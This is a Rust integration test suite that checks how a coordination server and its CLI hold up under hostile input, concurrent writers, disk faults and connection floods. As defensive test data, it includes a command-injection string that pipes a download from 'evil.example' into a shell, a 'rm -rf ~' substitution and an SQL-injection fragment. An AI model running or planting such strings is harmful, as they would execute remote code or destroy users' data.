//! Hostile input, faults and load: the server under abuse, the store under
//! many writers, and failures that must never be reported as success.

use std::io::{Read, Write as _};
use std::net::TcpStream;
use std::process::Stdio;
use std::time::Duration;

use crate::common::{Machine, Server, stderr, stdout};
use serde_json::Value;

/// Sends raw bytes, answers the status line's code (None when the server
/// closed without answering) and the body.
fn raw_http(addr: &str, request: &[u8]) -> (Option<u16>, String) {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let _ = s.write_all(request);
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    let text = String::from_utf8_lossy(&out).into_owned();
    let code = text.split_whitespace().nth(1).and_then(|c| c.parse().ok());
    let body = text
        .split_once("\r\n\r\n")
        .map(|x| x.1.to_string())
        .unwrap_or_default();
    (code, body)
}

fn post(addr: &str, path: &str, body: &str) -> (Option<u16>, String) {
    raw_http(
        addr,
        format!(
            "POST /api/coord{path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
        .as_bytes(),
    )
}

#[test]
fn idle_connections_do_not_starve_a_real_request() {
    let s = Server::start(&[]);
    let addr = s.addr();
    // 200 connections that never finish (or never start) their headers.
    let idle: Vec<TcpStream> = (0..200)
        .map(|i| {
            let mut c = TcpStream::connect(&addr).unwrap();
            if i % 2 == 0 {
                let _ = c.write_all(b"GET /api/coord/status HTTP/1.1\r\nHost: 127.0.0.1\r\n");
            }
            c
        })
        .collect();
    let m = Machine::remote("BOX", &s.url);
    let out = m.coord(&["--json", "status"]).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    // Answered while they were still open: not after the server's 5 s
    // header deadline had cleared them away (no timing assert: a loaded
    // machine may take its time, a starved request would wait them out).
    for c in idle.iter().skip(1).step_by(2).take(5) {
        c.set_nonblocking(true).unwrap();
        let mut b = [0u8; 1];
        let still_open = matches!(
            (&*c).read(&mut b),
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock
        );
        assert!(
            still_open,
            "an idle connection was closed before the request was answered"
        );
    }
    drop(idle);
}

#[test]
fn bad_bodies_get_a_4xx_with_detail_never_a_5xx() {
    let s = Server::start(&[]);
    let addr = s.addr();
    let paths = [
        "/messages",
        "/messages/1/read",
        "/todos",
        "/todos/1/done",
        "/locks",
    ];
    let bodies = [
        "{",
        "[]",
        "null",
        "\"just a string\"",
        "{\"to_session\": 5, \"body\": [], \"text\": {}, \"session\": 1, \"completed_by\": false}",
        "{}",
        "{\"project\":\"p\",\"resource\":\"r\",\"session_id\":\"A/b\",\"ttl_hours\":\"two\"}",
        "{\"project\":\"p\",\"resource\":\"r\",\"session_id\":\"A/b\",\"ttl_hours\":1e308}",
        "\u{0}\u{1}\u{2}",
        "{\"text\": \"\\ud800\"}",
    ];
    for path in paths {
        for body in bodies {
            let (code, text) = post(&addr, path, body);
            let code = code.unwrap_or_else(|| panic!("no answer to {path} {body:?}"));
            assert!((400..500).contains(&code), "{path} {body:?}: {code} {text}");
            let v: Value =
                serde_json::from_str(&text).unwrap_or_else(|_| panic!("{path} {body:?}: {text}"));
            assert!(v["detail"].is_string(), "{path} {body:?}: {text}");
        }
    }
    for (method, path) in [("PUT", "/components/p/c"), ("PUT", "/workflows/w")] {
        let req = format!(
            "{method} /api/coord{path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 3\r\nConnection: close\r\n\r\n{{x:"
        );
        let (code, text) = raw_http(&addr, req.as_bytes());
        assert_eq!(code, Some(422), "{path}: {text}");
        // Without a JSON content type a write is refused before parsing.
        let req = req.replace("Content-Type: application/json\r\n", "");
        let (code, text) = raw_http(&addr, req.as_bytes());
        assert_eq!(code, Some(415), "{path}: {text}");
    }
    // Wrong ids and query values.
    for q in [
        "GET /api/coord/messages?session=A/b&limit=abc",
        "GET /api/coord/messages?session=A/b&unread=maybe",
        "GET /api/coord/todos?status=later",
        "DELETE /api/coord/locks/notanumber?session_id=A/b",
        "DELETE /api/coord/locks/1",
    ] {
        let (code, text) = raw_http(
            &addr,
            format!("{q} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n").as_bytes(),
        );
        let code = code.unwrap();
        assert!((400..500).contains(&code), "{q}: {code} {text}");
        assert!(text.contains("detail"), "{q}: {text}");
    }
    assert!(!s.log_text().contains(" 500 "), "{}", s.log_text());
}

#[test]
fn a_ten_megabyte_query_string_is_refused_and_the_server_lives_on() {
    let s = Server::start(&[]);
    let addr = s.addr();
    let q = "x".repeat(10 * 1024 * 1024);
    let (code, _) = raw_http(
        &addr,
        format!(
            "GET /api/coord/messages?session={q} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
        )
        .as_bytes(),
    );
    // hyper refuses an over-long head before any handler runs (431), or
    // closes the connection; either way never a 5xx.
    assert!(code.is_none_or(|c| (400..500).contains(&c)), "{code:?}");
    let m = Machine::remote("BOX", &s.url);
    assert!(m.coord(&["status"]).output().unwrap().status.success());
}

#[test]
fn metacharacters_are_stored_and_returned_verbatim() {
    let s = Server::start(&[]);
    let m = Machine::remote("BOX", &s.url);
    // (NUL cannot travel in argv; the contract suite sends it over HTTP.)
    let nasty = "Robert'); DROP TABLE todos;-- $(rm -rf ~) `id` && echo %s %n \\\" ' | > /dev/null";
    m.json(
        None,
        &["todo", "add", nasty, "--project", nasty, "--source", nasty],
    );
    m.json(
        None,
        &[
            "component",
            "set",
            nasty,
            "a/b c?d#e",
            nasty,
            "--notes",
            nasty,
        ],
    );
    m.json(None, &["msg", "send", "BOX", nasty, "--subject", nasty]);
    let todos = m.json(None, &["todo", "list", "--project", nasty]);
    assert_eq!(todos[0]["text"], nasty);
    assert_eq!(todos[0]["source"], nasty);
    let st = m.json(None, &["status"]);
    assert_eq!(st["components"][0]["project"], nasty);
    assert_eq!(st["components"][0]["component"], "a/b c?d#e");
    // Sent to itself: read for the sender, so it is under --all.
    let inbox = m.json(None, &["msg", "inbox", "--all"]);
    assert_eq!(inbox[0]["body"], nasty);
    assert_eq!(inbox[0]["subject"], nasty);
}

/// 50 workers each run 20 `coord msg send` one after another. Under wine
/// a process start costs ~60 ms (and a thousand of them cost minutes), so
/// the Windows run uses 10 workers of 10: the same race, fewer rounds.
const WORKERS: usize = if cfg!(windows) { 10 } else { 50 };
const EACH: usize = if cfg!(windows) { 10 } else { 20 };

fn fifty_by_twenty(m: &Machine) {
    let workers: Vec<_> = (0..WORKERS)
        .map(|w| {
            let cmds: Vec<_> = (0..EACH)
                .map(|i| {
                    m.std_bin(
                        "coord",
                        Some(&format!("w{w}")),
                        &["msg", "send", "SINK/inbox", &format!("{w}-{i}"), "--force"],
                    )
                })
                .collect();
            std::thread::spawn(move || {
                let mut errors = Vec::new();
                for mut c in cmds {
                    let out = c
                        .stdout(Stdio::null())
                        .stderr(Stdio::piped())
                        .output()
                        .unwrap();
                    if !out.status.success() || !out.stderr.is_empty() {
                        errors.push(String::from_utf8_lossy(&out.stderr).into_owned());
                    }
                }
                errors
            })
        })
        .collect();
    let errors: Vec<String> = workers
        .into_iter()
        .flat_map(|w| w.join().unwrap())
        .collect();
    assert!(
        errors.is_empty(),
        "{} failures, first: {:?}",
        errors.len(),
        errors.first()
    );
    let all = m.json(Some("x"), &["msg", "inbox", "--all", "--limit", "1000"]);
    let _ = all;
    let sink = m
        .coord(&["--json", "msg", "inbox", "--all", "--limit", "1000"])
        .env("COORD_SESSION", "SINK/inbox")
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&sink.stdout).unwrap();
    let mut bodies: Vec<&str> = v
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["body"].as_str().unwrap())
        .collect();
    bodies.sort();
    bodies.dedup();
    assert_eq!(bodies.len(), WORKERS * EACH);
}

#[test]
fn fifty_writers_on_one_embedded_store_lose_nothing() {
    let m = Machine::new("BOX");
    fifty_by_twenty(&m);
}

#[test]
fn fifty_writers_through_coord_serve_lose_nothing() {
    let s = Server::start(&[]);
    let m = Machine::remote("BOX", &s.url);
    fifty_by_twenty(&m);
    assert!(
        !m.claude_dir().join("coord-queue.jsonl").exists(),
        "nothing was queued"
    );
}

#[test]
fn a_queue_that_cannot_be_written_is_never_called_queued() {
    let url = crate::common::dead_url();
    let m = Machine::remote("BOX", &url);
    // A folder where the queue file should be: the append fails.
    let blocked = m.root().join("queue-is-a-folder");
    std::fs::create_dir_all(&blocked).unwrap();
    let out = m
        .coord(&["msg", "send", "BOX", "precious"])
        .env("COORD_QUEUE", &blocked)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.contains("NOT saved"), "{err}");
    assert!(!err.contains("run coord sync"), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");

    // A full disk, where Linux offers one.
    #[cfg(target_os = "linux")]
    if std::path::Path::new("/dev/full").exists() {
        let dir = m.root().join("full");
        std::fs::create_dir_all(&dir).unwrap();
        let q = dir.join("q.jsonl");
        std::os::unix::fs::symlink("/dev/full", &q).unwrap();
        let out = m
            .coord(&["msg", "send", "BOX", "precious"])
            .env("COORD_QUEUE", &q)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1));
        assert!(stderr(&out).contains("NOT saved"), "{}", stderr(&out));
    }
}

#[test]
fn a_truncated_database_is_named_and_serve_refuses_it() {
    let m = Machine::new("BOX");
    for i in 0..200 {
        m.json(
            None,
            &["todo", "add", &format!("todo {i} {}", "x".repeat(200))],
        );
    }
    let db = m.db_path();
    // Fold the WAL in, then cut the file in half.
    let _ = m.coord(&["status"]).output();
    let len = std::fs::metadata(&db).unwrap().len();
    let bytes = std::fs::read(&db).unwrap();
    for suffix in ["-wal", "-shm"] {
        let _ = std::fs::remove_file(db.with_file_name(format!("coord.db{suffix}")));
    }
    std::fs::write(&db, &bytes[..(len / 2) as usize]).unwrap();

    let out = m.coord(&["todo", "list"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains(&db.display().to_string()), "{err}");
    assert!(err.contains("corrupt"), "{err}");
    let out = m
        .coord(&[
            "serve",
            "--listen",
            "127.0.0.1:0",
            "--db",
            db.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "serve started on a broken store: {}",
        stdout(&out)
    );
    assert!(
        stderr(&out).contains(&db.display().to_string()),
        "{}",
        stderr(&out)
    );
}

/// Whether the server has closed `s` (or answered and closed): a read that
/// ends, within `wait`.
fn closed_within(s: &mut TcpStream, wait: Duration) -> Option<String> {
    s.set_read_timeout(Some(wait)).unwrap();
    let mut out = Vec::new();
    match s.read_to_end(&mut out) {
        Ok(_) => Some(String::from_utf8_lossy(&out).into_owned()),
        Err(e)
            if matches!(
                e.kind(),
                std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
            ) =>
        {
            None
        }
        Err(_) => Some(String::from_utf8_lossy(&out).into_owned()),
    }
}

#[test]
fn bodies_that_never_arrive_and_held_long_polls_count_against_the_bounds() {
    // 340 in all: 255 from one address.
    let s = Server::start(&["--max-connections", "340"]);
    let addr = s.addr();
    let body_promised = |c: &mut TcpStream| {
        let _ = c.write_all(
            b"POST /api/coord/todos HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{",
        );
    };
    let long_poll = |c: &mut TcpStream| {
        let _ = c.write_all(
            b"GET /api/coord/messages?session=BOX/w&unread=true&wait=60 HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
        );
    };
    // The per-address bound, filled: half held long-polls, half bodies
    // that never finish.
    let mut first: Vec<TcpStream> = (0..255)
        .map(|i| {
            let mut c = TcpStream::connect(&addr).unwrap();
            if i % 2 == 0 {
                long_poll(&mut c);
            } else {
                body_promised(&mut c);
            }
            c
        })
        .collect();
    // Past the grace a new connection gets before it counts as quiet.
    std::thread::sleep(Duration::from_millis(1300));
    // 40 more: each closes one of the first — held long-polls first, each
    // answered (empty, so its waiter asks again).
    let more: Vec<TcpStream> = (0..40)
        .map(|_| {
            let mut c = TcpStream::connect(&addr).unwrap();
            body_promised(&mut c);
            c
        })
        .collect();
    let m = Machine::remote("BOX", &s.url);
    m.coord(&["--json", "status"]).assert().success();
    // The oldest held long-polls were answered at once (they asked to be
    // held 60 s), with nothing new.
    let mut answered_empty = 0;
    for c in first.iter_mut().take(100).step_by(2) {
        if let Some(text) = closed_within(c, Duration::from_millis(500))
            && text.starts_with("HTTP/1.1 200")
            && text.ends_with("[]")
        {
            answered_empty += 1;
        }
    }
    assert!(
        answered_empty >= 40,
        "{answered_empty} long-polls answered early"
    );
    drop(more);
}

#[test]
fn a_body_that_never_arrives_gets_408() {
    let s = Server::start(&[]);
    let mut c = TcpStream::connect(s.addr()).unwrap();
    c.write_all(
        b"POST /api/coord/todos HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"text\":",
    )
    .unwrap();
    // The server's 10 s, with room: this waits for its answer.
    let text = closed_within(&mut c, Duration::from_secs(30)).unwrap_or_default();
    assert!(text.starts_with("HTTP/1.1 408"), "{text}");
    assert!(text.contains("did not arrive"), "{text}");
}

#[test]
fn every_list_endpoint_is_bounded_and_counts_what_it_left_out() {
    let s = Server::start(&[]);
    let m = Machine::remote("BOX", &s.url);
    m.arrive(None);
    {
        use coord_hook::backend::Coord;
        let c = coord_hook::client::HttpCoord::new(&s.url, None, Duration::from_secs(5));
        for i in 0..150 {
            c.write(
                &coord_hook::model::Write::AddTodo(coord_hook::model::NewTodo {
                    text: format!("todo {i}"),
                    user: None,
                    project: None,
                    parent_id: None,
                    source: None,
                    auto: false,
                    created_by_user: "u".into(),
                    created_by_machine: "BOX".into(),
                }),
                None,
            )
            .unwrap();
        }
    }
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .build()
        .into();
    let get = |q: &str| {
        let mut r = agent
            .get(&format!("{}/api/coord{q}", s.url))
            .call()
            .unwrap();
        let status = r.status().as_u16();
        let total = r
            .headers()
            .get("x-total-count")
            .and_then(|v| v.to_str().ok())
            .map(str::to_string);
        let v: Value = serde_json::from_str(&r.body_mut().read_to_string().unwrap()).unwrap();
        (status, total, v)
    };
    let (status, total, v) = get("/todos");
    assert_eq!(status, 200);
    assert_eq!(v.as_array().unwrap().len(), 100);
    assert_eq!(total.as_deref(), Some("150"));
    let last = v[99]["id"].as_i64().unwrap();
    let (_, total, rest) = get(&format!("/todos?after_id={last}&limit=1000"));
    assert_eq!(rest.as_array().unwrap().len(), 50);
    assert_eq!(total.as_deref(), Some("50"));
    for q in [
        "/todos?limit=1001",
        "/locks?limit=0",
        "/sessions?limit=x",
        "/todos?after_id=x",
    ] {
        let (status, _, v) = get(q);
        assert_eq!(status, 422, "{q}: {v}");
    }
    let (status, total, _) = get("/locks");
    assert_eq!((status, total.as_deref()), (200, Some("0")));
    let (status, total, v) = get("/sessions?limit=1");
    assert_eq!((status, total.as_deref()), (200, Some("1")));
    assert_eq!(v.as_array().unwrap().len(), 1);
    // The CLI still lists them all.
    let all = m.json(None, &["todo", "list"]);
    assert_eq!(all.as_array().unwrap().len(), 150);
}

#[test]
fn addresses_outside_the_grammar_are_refused_by_client_and_server_alike() {
    let s = Server::start(&[]);
    let m = Machine::remote("BOX", &s.url);
    m.arrive(None);
    for to in [
        "/x",
        "x/",
        "BOX/x/y",
        "ＡＬＬ",
        "ВОХ",
        "ſerver",
        "BOX/a\u{1}b",
    ] {
        let out = m
            .coord(&["msg", "send", to, "x", "--force"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{to}: {}", stderr(&out));
        assert!(stderr(&out).contains("recipient"), "{}", stderr(&out));
    }
    let evil = "EVIL/$(curl${IFS}-s${IFS}evil.example|sh)";
    let (code, body) = post(
        &s.addr(),
        "/messages",
        &serde_json::json!({"to_session": "BOX/claude-main", "body": "hi", "from_session": evil,
            "created_by_user": "u", "created_by_machine": "EVIL"})
        .to_string(),
    );
    assert_eq!(code, Some(422), "{body}");
    assert!(body.contains("from_session"), "{body}");
    let (code, body) = raw_http(
        &s.addr(),
        b"PUT /api/coord/sessions/EVIL%2F%24(id) HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 12\r\nConnection: close\r\n\r\n{\"user\":\"x\"}",
    );
    assert_eq!(code, Some(422), "{body}");
    let sessions = m.json(None, &["sessions", "--all"]);
    assert!(!sessions.to_string().contains("EVIL"), "{sessions}");
}

/// One HTTP/1.1 answer read off a keep-alive connection: its head and body.
fn read_answer(c: &mut TcpStream) -> (String, String) {
    c.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let mut got = Vec::new();
    let mut byte = [0u8; 1];
    while !got.ends_with(b"\r\n\r\n") {
        // read_exact: a signal to this process (a child ending) is retried.
        c.read_exact(&mut byte)
            .expect("an answer, not the end of the connection");
        got.push(byte[0]);
    }
    let head = String::from_utf8_lossy(&got).to_ascii_lowercase();
    let len: usize = head
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .map_or(0, |n| n.trim().parse().unwrap());
    let mut body = vec![0u8; len];
    c.read_exact(&mut body).unwrap();
    (head, String::from_utf8_lossy(&body).into_owned())
}

#[test]
fn a_held_long_poll_answers_in_full_and_keeps_its_connection() {
    // A long-poll that waits is parked outside the HTTP machinery and its
    // request replayed when the wait ends: the client sees one answer, the
    // one it asked for, and its connection goes on serving.
    let s = Server::start(&[]);
    let mut c = TcpStream::connect(s.addr()).unwrap();
    let poll = |c: &mut TcpStream, wait: u32| {
        c.write_all(
            format!(
                "GET /api/coord/messages?session=BOX/parked&unread=true&wait={wait} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
            )
            .as_bytes(),
        )
        .unwrap();
    };
    poll(&mut c, 20);
    std::thread::sleep(Duration::from_millis(400));
    let m = Machine::remote("OTHER", &s.url);
    m.coord(&["msg", "send", "--force", "BOX/parked", "while you waited"])
        .assert()
        .success();
    let (head, body) = read_answer(&mut c);
    assert!(head.starts_with("http/1.1 200"), "{head}");
    assert!(head.contains("x-total-count: 1"), "{head}");
    assert!(!head.contains("connection: close"), "{head}");
    let v: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v[0]["body"], "while you waited", "{body}");
    // The same connection: a plain request, then a poll that waits again
    // and runs out with nothing new.
    c.write_all(b"GET /api/coord/status HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        .unwrap();
    let (head, body) = read_answer(&mut c);
    assert!(head.starts_with("http/1.1 200"), "{head}");
    assert!(body.contains("locks"), "{body}");
    let id = v[0]["id"].as_i64().unwrap();
    c.write_all(
        format!(
            "GET /api/coord/messages?session=BOX/parked&after_id={id}&wait=1 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
        )
        .as_bytes(),
    )
    .unwrap();
    let (head, body) = read_answer(&mut c);
    assert!(head.starts_with("http/1.1 200"), "{head}");
    assert_eq!(body, "[]");
    // Parked again, and a broadcast alone comes: answered from its row,
    // as a read would answer it (unread, counted).
    c.write_all(
        format!(
            "GET /api/coord/messages?session=BOX/parked&unread=true&after_id={id}&wait=20 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
        )
        .as_bytes(),
    )
    .unwrap();
    std::thread::sleep(Duration::from_millis(400));
    m.coord(&["msg", "send", "ALL", "to everyone"])
        .assert()
        .success();
    let (head, body) = read_answer(&mut c);
    assert!(head.contains("x-total-count: 1"), "{head}");
    let v: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v.as_array().map(Vec::len), Some(1), "{body}");
    assert_eq!(v[0]["body"], "to everyone", "{body}");
    assert_eq!(v[0]["to_session"], "ALL_SESSIONS", "{body}");
    assert_eq!(v[0]["read"], false, "{body}");
    assert!(v[0]["read_at"].is_null(), "{body}");
    // Only real answers are logged: the three requests, no stand-in.
    drop(c);
    let log = s.log_text();
    assert_eq!(
        log.matches("GET /api/coord/messages 200").count(),
        3,
        "{log}"
    );
}
